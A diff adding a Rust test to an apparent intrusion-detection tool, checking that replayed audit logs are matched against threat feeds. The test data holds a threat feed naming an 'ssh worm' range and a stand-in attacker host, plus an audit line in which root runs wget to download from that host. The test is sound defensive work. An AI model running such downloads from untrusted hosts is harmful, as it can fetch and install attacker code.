@@ -423,6 +423,25 @@ fn replay_reads_every_kind_of_line_mixed() {
 }
 
 #[test]
+fn replay_holds_events_against_the_feeds_of_a_configuration() {
+    let directory = tempfile::tempdir().unwrap();
+    let file = |name: &str| directory.path().join(name).display().to_string();
+    std::fs::write(file("bots.txt"), "# seen in our network\n198.51.100.0/24 ssh worm\nbad.example\n")
+        .unwrap();
+    std::fs::write(file("broken.txt"), "<html>\n").unwrap();
+    let config = format!("[rules]\ndirectories = []\n[feeds]\ndirectories = [{:?}]\n", directory.path());
+    std::fs::write(file("defender.toml"), config).unwrap();
+    let line = r#"type=EXECVE msg=audit(1700000000.100:7): argc=2 a0="wget" a1="http://x.bad.example/a""#;
+    let syscall = "type=SYSCALL msg=audit(1700000000.100:7): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=9 uid=0 exe=\"/bin/wget\"";
+    let log = format!("{syscall}\n{line}\ntype=EOE msg=audit(1700000000.100:7):\n{}", attack());
+    let ended = with_input(&["replay", "-", "--config", &file("defender.toml")], log.as_bytes());
+    assert_eq!(ended.status, 0, "{ended:?}");
+    assert!(ended.output.contains("198.51.100.0/24 (ssh worm)"), "{ended:?}");
+    assert!(ended.output.contains("Program given a listed host (feed bots): bad.example"), "{ended:?}");
+    assert!(ended.errors.contains("feed broken") && ended.errors.contains("line 1"), "{ended:?}");
+}
+
+#[test]
 fn replay_tells_what_it_cannot_read() {
     let rules = shipped_rules();
     for (arguments, status, says) in [
